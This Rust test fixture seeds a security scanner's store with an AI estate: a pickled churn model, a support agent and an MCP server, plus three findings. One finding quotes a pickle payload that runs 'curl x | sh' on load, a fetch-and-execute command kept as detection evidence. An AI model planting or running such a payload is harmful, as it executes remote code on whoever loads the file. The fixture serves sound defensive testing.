//! A small estate for tests: one source with a model that runs code when it is loaded, an agent, a server.

use std::collections::{BTreeMap, BTreeSet};

use stance_core::due::Deadlines;
use stance_core::evidence::Locus;
use stance_core::{
    Asset, AssetKind, Coverage, Evidence, Finding, How, Relation, RelationKind, Severity,
};
use stance_store::{Estate as _, Ingest, Ingested, SourceNumber};

use crate::harness::Running;

/// What the only source tells.
pub(crate) struct Told {
    pub(crate) assets: Vec<Asset>,
    pub(crate) relations: Vec<Relation>,
    pub(crate) findings: Vec<Finding>,
    pub(crate) judged: Option<BTreeMap<String, u64>>,
}

/// The first state of the source.
pub(crate) fn told() -> Told {
    let at = |path: &str, line: u32, excerpt: &str| Evidence {
        path: path.into(),
        locus: Locus::Line {
            line,
            column: 1,
            width: 1,
        },
        excerpt: excerpt.into(),
        mark: None,
    };
    let asset = |kind, key: &str, name: &str, path: &str| {
        Asset::new(kind, key, name, How::Literal, Evidence::file(path))
    };
    let model = asset(
        AssetKind::Model,
        "file/churn/model.pkl",
        "churn",
        "churn/model.pkl",
    );
    let agent = asset(
        AssetKind::Agent,
        "agents/support.py#support",
        "support",
        "agents/support.py",
    );
    let server = asset(AssetKind::McpServer, ".mcp.json#docs", "docs", ".mcp.json")
        .with("authentication", "required");
    let find = |rule: &'static str, severity, asset: &Asset, evidence, message: &str| {
        Finding::new(rule, severity, asset.id.clone(), evidence, message)
    };
    let pickle = Evidence::bytes("churn/model.pkl", 0x5c, 60, "posix.system('curl x | sh')");
    let mut findings = vec![
        find(
            "model/pickle-exec",
            Severity::Critical,
            &model,
            pickle,
            "loading the pickle calls `posix.system('curl x | sh')`",
        ),
        find(
            "agent/mcp-plain-http",
            Severity::High,
            &server,
            at(".mcp.json", 4, "http://mcp.acme.example"),
            "MCP server `docs` is reached over http",
        ),
        find(
            "code/prompt-logging",
            Severity::Medium,
            &agent,
            at("agents/support.py", 88, "log.info(prompt)"),
            "whole prompts are logged",
        ),
    ];
    Finding::identify(&mut findings);
    Told {
        relations: vec![
            Relation {
                from: agent.id.clone(),
                to: server.id.clone(),
                kind: RelationKind::Calls,
                evidence: Evidence::file("agents/support.py"),
            },
            Relation {
                from: agent.id.clone(),
                to: model.id.clone(),
                kind: RelationKind::LoadsArtifactFrom,
                evidence: Evidence::file("agents/support.py"),
            },
        ],
        assets: vec![model, agent, server],
        findings,
        judged: None,
    }
}

/// Adds the source and takes its first state in.
pub(crate) fn fill(server: &Running) -> SourceNumber {
    server.sql(
        "INSERT INTO source (key, name, kind, created, owner, environment)
         VALUES ('/srv/payments-ml', 'payments-ml', 'directory', 0, 'growth', 'production')",
    );
    tell(server, &told());
    SourceNumber(1)
}

/// Takes in what the source tells now.
pub(crate) fn tell(server: &Running, told: &Told) -> Ingested {
    let at = server.now();
    let (assets, relations, findings) = (
        told.assets.clone(),
        told.relations.clone(),
        told.findings.clone(),
    );
    let judged = told.judged.clone();
    server.store(move |store| {
        store.ingest(&Ingest {
            source: SourceNumber(1),
            run: None,
            at,
            assets: &assets,
            relations: &relations,
            findings: &findings,
            coverage: &Coverage::default(),
            unjudged: &BTreeSet::new(),
            judged: judged.as_ref(),
            deadlines: Deadlines::default(),
        })
    })
}
